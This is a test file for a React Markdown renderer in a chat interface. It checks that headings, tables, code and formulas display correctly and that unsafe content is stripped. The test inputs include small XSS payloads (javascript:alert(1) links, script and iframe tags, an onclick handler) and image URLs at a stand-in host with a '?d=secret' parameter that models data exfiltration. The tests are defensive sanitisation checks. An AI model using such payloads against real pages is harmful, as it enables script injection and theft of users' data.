import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, test, vi } from "vitest";
import { Markdown } from "./Markdown";

afterEach(cleanup);
// KaTeX refuses pages without a document type, as the one of the test is.
vi.hoisted(() => Object.defineProperty(document, "compatMode", { value: "CSS1Compat" }));

const shown = (text: string, streaming = false) => render(<Markdown streaming={streaming}>{text}</Markdown>).container;

describe("an answer in Markdown", () => {
  test("has headings below those of the page, tables, lists and emphasis", () => {
    const page = shown("# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- **one**\n- *two*");
    expect(page.querySelector("h1")).toBeNull();
    expect(page.querySelector("h2")?.textContent).toBe("Title");
    expect(page.querySelectorAll("td")).toHaveLength(2);
    expect(page.querySelectorAll("li")).toHaveLength(2);
    expect(page.querySelector("strong")?.textContent).toBe("one");
  });

  test("links open elsewhere without telling where from; dangerous ones are only text", () => {
    const page = shown("[good](https://example.com) and [bad](javascript:alert(1))");
    const links = page.querySelectorAll("a");
    expect(links).toHaveLength(1);
    expect(links[0]?.getAttribute("href")).toBe("https://example.com/");
    expect(links[0]?.getAttribute("rel")).toContain("noopener");
    expect(page.textContent).toContain("bad");
  });

  test("a picture from elsewhere is named and never loaded, whichever way it is written", () => {
    const page = shown(
      '![chart](https://evil.example/x.png?d=secret)\n\n<img src="https://evil.example/y.png">\n\n<picture><source srcset="https://evil.example/z.png"></picture>\n\n![d](data:image/png;base64,AAAA)',
    );
    expect(page.querySelectorAll("img, source, picture")).toHaveLength(0);
    expect(page.textContent).toContain("chart");
    expect(page.textContent).toContain("evil.example not loaded");
  });

  test("our own pictures are shown", () => {
    expect(shown("![plan](/api/v1/chat/rooms/1/uploads/2/plan.png)").querySelector("img")?.alt).toBe("plan");
  });

  test("HTML does nothing but a few harmless tags", () => {
    const page = shown('<script>alert(1)</script><iframe src="https://evil.example"></iframe><b onclick="x()">b</b> H<sub>2</sub>O<br>end');
    expect(page.querySelectorAll("script, iframe, [onclick]")).toHaveLength(0);
    expect(page.querySelector("sub")?.textContent).toBe("2");
    expect(page.querySelector("br")).not.toBeNull();
    expect(page.textContent).toContain("<script>alert(1)</script>");
  });

  test("ids cannot pose as parts of the page", () => {
    expect(shown("x[^root]\n\n[^root]: note").querySelector("#root")).toBeNull();
  });

  test("unfinished Markdown looks finished while it streams", () => {
    const page = shown("Some **bold te", true);
    expect(page.querySelector("strong")?.textContent).toBe("bold te");
    expect(page.textContent).not.toContain("**");
  });

  test("code carries its language and can be copied", () => {
    const page = shown("```python\nprint(1)\n```");
    expect(page.querySelector("figcaption")?.textContent).toContain("python");
    expect(page.querySelector("pre")?.textContent).toBe("print(1)");
    expect(page.querySelector("button")?.getAttribute("aria-label")).toBe("Copy the code");
  });

  test("formulas are drawn, with MathML for screen readers; money is not", async () => {
    const page = shown("Euler: \\(e^{i\\pi}+1=0\\), for $5 and $6.\n\n$$\n\\frac{a}{b}\n$$");
    await vi.waitFor(() => expect(page.querySelectorAll("math")).toHaveLength(2), { timeout: 30_000 });
    expect(page.querySelector(".math-display math")).not.toBeNull();
    expect(page.textContent).toContain("for $5 and $6.");
  });

  test("a formula brings no link, no picture and no markup of its own", async () => {
    const page = shown(String.raw`\(\href{javascript:alert(1)}{x}\includegraphics{https://evil.example/x.png}\htmlId{root}{y}\)`);
    await vi.waitFor(() => expect(page.querySelector(".katex, .katex-error")).not.toBeNull(), { timeout: 30_000 });
    expect(page.querySelectorAll("a, img, #root")).toHaveLength(0);
  });
});
